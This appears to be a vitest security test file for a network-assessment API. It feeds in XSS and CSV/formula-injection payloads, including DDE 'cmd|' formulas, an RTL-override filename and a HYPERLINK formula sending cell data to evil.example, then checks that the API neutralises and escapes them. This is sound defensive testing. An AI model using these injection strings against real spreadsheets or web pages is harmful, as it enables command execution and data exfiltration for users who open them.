import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { routeUrl, TABLES, type RouteId } from '@cleanpath/api';
import { makeZip } from '../../../formats/test/archive/make-zip.js';
import { endedJob } from '../support/ended-job.js';
import {
  START_TIMEOUT,
  testServer,
  type Credentials,
  type TestAnswer,
  type TestServer,
} from '../support/test-server.js';

/** What a page, a spreadsheet or a person could be led astray by. */
const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  `"'><svg/onload=alert(1)>`,
  '</script><script>alert(1)</script>',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?"&A1)',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  'javascript:alert(1)',
  '\u202egnp.exe\u2066',
  '{{constructor.constructor("alert(1)")()}}',
  '＝cmd|x',
];
const NAME = `<img src=x onerror=alert(1)> "=cmd|x"\u202e;/../\\ ü`;

let server: TestServer;
let analyst: Credentials;
let network: string;
let params: Record<string, string>;

beforeAll(async () => {
  server = await testServer({ work: true, realTime: true });
  analyst = await server.member(await server.organisation('Authority', { host: true }), ['authority']);
  network = (await ok('createNetwork', { body: { name: NAME, description: PAYLOADS.join(' ') } })).id as string;
  const begun = await send(hostileDossier());
  expect(begun).toMatchObject({ state: 'ready', errors: 0 });
  const { jobId } = await ok('applyImport', {
    params: { network, import: begun.id as string },
    body: { note: PAYLOADS[3] },
  });
  expect(await endedJob(server, jobId as string, analyst)).toMatchObject({ state: 'done' });
  const { snapshot, assessment } = await ok('network', { params: { network } });
  params = { network, snapshot: snapshot.id as string, assessment: assessment.id as string };
}, START_TIMEOUT + 120_000);
afterAll(() => server.close());

const ok = async (...given: Parameters<TestServer['request']>) => {
  const answer = await server.request(given[0], given[1], analyst);
  expect(answer.status, answer.text).toBeLessThan(300);
  return answer.json;
};

/** Uploads an archive, imports it, gives the import once it is read. */
const send = async (bytes: Uint8Array) => {
  const upload = await ok('upload', { params: { network }, query: { name: `${PAYLOADS[3]}.zip` }, upload: bytes });
  const begun = await ok('startImport', { params: { network }, body: { uploads: [upload.id] } });
  await endedJob(server, begun.jobId as string, analyst);
  return ok('import', { params: { network, import: begun.id as string } });
};

/** Each id, name and free text is a payload of its own. */
function hostileDossier(): Buffer {
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const row = (...cells: string[]): string => cells.map(quoted).join(',');
  const id = (kind: string, at: number): string => `${PAYLOADS[at]!} ${kind}`;
  const all = PAYLOADS.map((_, at) => at);
  const elements = all.map((at) =>
    row(
      id('e', at),
      'transport-node',
      PAYLOADS[at]!,
      id('p', at),
      PAYLOADS[at]!,
      PAYLOADS[at]!,
      String(50 + at / 10),
      '10',
      PAYLOADS[at]!,
    ),
  );
  const relations = all.slice(1).map((at) => row(id('e', at - 1), id('e', at), 'link'));
  const demands = all
    .slice(1)
    .map((at) => row(id('d', at), PAYLOADS[at]!, PAYLOADS[at]!, 'transmission', id('e', 0), id('e', at)));
  const suppliers = all.map((at) => ({
    id: id('s', at),
    name: PAYLOADS[at],
    jurisdictions: ['XA'],
    attributes: { about: PAYLOADS[at] },
  }));
  const files = {
    'dossier.yaml': JSON.stringify({
      dossier: 1,
      id: 'hostile',
      name: PAYLOADS[0],
      description: PAYLOADS[2],
      asOf: '2026-06-30',
      synthetic: [{ what: PAYLOADS[0], method: PAYLOADS[2] }],
    }),
    'suppliers.yaml': JSON.stringify(suppliers),
    'products.csv': [
      'id,supplier,name,kind',
      ...all.map((at) => row(id('p', at), id('s', at), PAYLOADS[at]!, 'hardware')),
    ].join('\n'),
    'elements.csv': ['id,kind,name,product,site,region,lat,lon,tierReason', ...elements].join('\n'),
    'relations.csv': ['from,to,type', ...relations].join('\n'),
    'demands.csv': ['id,name,service,plane,from,to', ...demands].join('\n'),
  };
  return makeZip(Object.entries(files).map(([name, content]) => ({ name, content })));
}

/** A cell a spreadsheet would run; numbers are none (OWASP “CSV Injection”). */
const runs = (cell: string): boolean => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

const expectSafeTable = (answer: TestAnswer): void => {
  expect(answer.status, answer.text).toBe(200);
  expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
  expectData(answer);
  expect(answer.headers['content-disposition']).toMatch(/^attachment; /);
  const rows = parse(answer.text, { bom: true });
  expect(rows.length).toBeGreaterThan(0);
  expect(rows.flat().filter(runs)).toEqual([]);
};

/** Nothing in it may run in the origin, whatever a browser takes it for. */
const expectData = ({ headers }: TestAnswer): void => {
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['content-security-policy']).toContain("default-src 'none'");
};

test('the payloads are there to be found', async () => {
  const { items } = await ok('elements', { params, query: { limit: 100 } });
  expect((items as { name: string }[]).map(({ name }) => name).sort()).toEqual([...PAYLOADS].sort());
});

test.each(TABLES)('the table of %s holds no cell a spreadsheet would run', async (table) => {
  expectSafeTable(await server.request('assessmentTable', { params: { ...params, table } }, analyst));
});

test('the list of elements as CSV holds no cell a spreadsheet would run', async () => {
  const answer = await server.request('elementsCsv', { params }, analyst);
  expectSafeTable(answer);
  expect(answer.text).toContain(`cmd|' /C calc'!A0`);
});

test('problems quote what was sent, as text', async () => {
  const broken = makeZip([
    { name: 'dossier.yaml', content: 'dossier: 1\nid: broken\nname: Broken\n' },
    {
      name: 'elements.csv',
      content: `id,kind\n${PAYLOADS.map((text, at) => `e${at},"${text.replaceAll('"', '""')}"`).join('\n')}\n`,
    },
  ]);
  const read = await send(broken);
  expect(read).toMatchObject({ state: 'invalid' });
  const answer = await server.request('importProblemsCsv', { params: { network, import: read.id as string } }, analyst);
  expectSafeTable(answer);
  expect(answer.text).toContain('kind-unknown');
});

test('the report shows each name as text and runs nothing of it', async () => {
  const answer = await server.request('assessmentReport', { params }, analyst);
  expect(answer.headers['content-type']).toBe('text/html; charset=utf-8');
  expect(answer.headers['x-content-type-options']).toBe('nosniff');
  const policy = answer.headers['content-security-policy']!;
  expect(policy).toContain('sandbox');
  expect(policy).not.toContain('allow-same-origin');
  expect(policy).toContain("default-src 'none'");
  expect(answer.text).toContain('&lt;img src=x onerror=alert(1)&gt;');
  expect(answer.text).not.toMatch(/<img src=x|<svg\/onload|<script>alert/i);
  expect(answer.text).not.toMatch(/(?:href|src|action)\s*=\s*["']?\s*javascript:/i);
  // Attributes end where they were meant to: none was opened by a name.
  const markup = answer.text.replace(/="[^"<]*"/g, '=""').replace(/<(script|style)\b[^>]*>[^]*?<\/\1>/g, '');
  expect(/<[a-z][^>]*\son[a-z]+\s*=[^>]*>/i.exec(markup)?.[0]).toBeUndefined();
});

const JSON_READS: readonly RouteId[] = [
  'network',
  'snapshots',
  'imports',
  'assessment',
  'demands',
  'suppliers',
  'elements',
  'map',
  'jobs',
];

test.each(JSON_READS)('%s answers as JSON that no browser takes for a page', async (id) => {
  const answer = await server.request(id, { params }, analyst);
  expect(answer.status, answer.text).toBe(200);
  expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
  expectData(answer);
});

test('an element, a supplier and a service are reached by whatever id they have', async () => {
  for (const payload of PAYLOADS.slice(1)) {
    const reads: [RouteId, Record<string, string>][] = [
      ['element', { element: `${payload} e` }],
      ['supplier', { supplier: `${payload} s` }],
      ['demand', { demand: `${payload} d` }],
    ];
    for (const [id, further] of reads) {
      const answer = await server.request(id, { params: { ...params, ...further } }, analyst);
      expect([id, payload, answer.status], answer.text.slice(0, 300)).toEqual([id, payload, 200]);
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    }
  }
});

test.each(['dossier', 'graphml', 'rfc8345', 'snapshot'])(
  'the export as %s is an attachment with a harmless name',
  async (format) => {
    const answer = await server.request('exportSnapshot', { params, query: { format } }, analyst);
    expect(answer.status).toBe(200);
    expectData(answer);
    const disposition = answer.headers['content-disposition']!;
    // RFC 6266: a quoted ASCII name for old readers, the whole one in filename* (RFC 8187).
    expect(disposition).toMatch(/^attachment; filename="[ -~]*"; filename\*=UTF-8''[\w!#$&+.^`|~%-]+$/);
    const [, plain] = /filename="([^"]*)"/.exec(disposition)!;
    const whole = decodeURIComponent(/filename\*=UTF-8''(\S+)$/.exec(disposition)![1]!);
    for (const name of [plain!, whole]) expect(name).not.toMatch(/[/\\<>:"|?*\p{Cc}\p{Cf}]|^\./u);
    if (format === 'graphml') {
      expect(answer.text).not.toContain('<img');
      expect(answer.text).toContain('&lt;img src=x');
    }
  },
);

test('an address with a payload is told back in no header and in no page', async () => {
  for (const payload of PAYLOADS) {
    const url = routeUrl('networks', { query: { cursor: payload } });
    const answer = await server.inject('GET', url, analyst);
    expect(answer.status).toBe(400);
    expect(answer.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(JSON.stringify(answer.headers)).not.toContain('alert');
  }
});
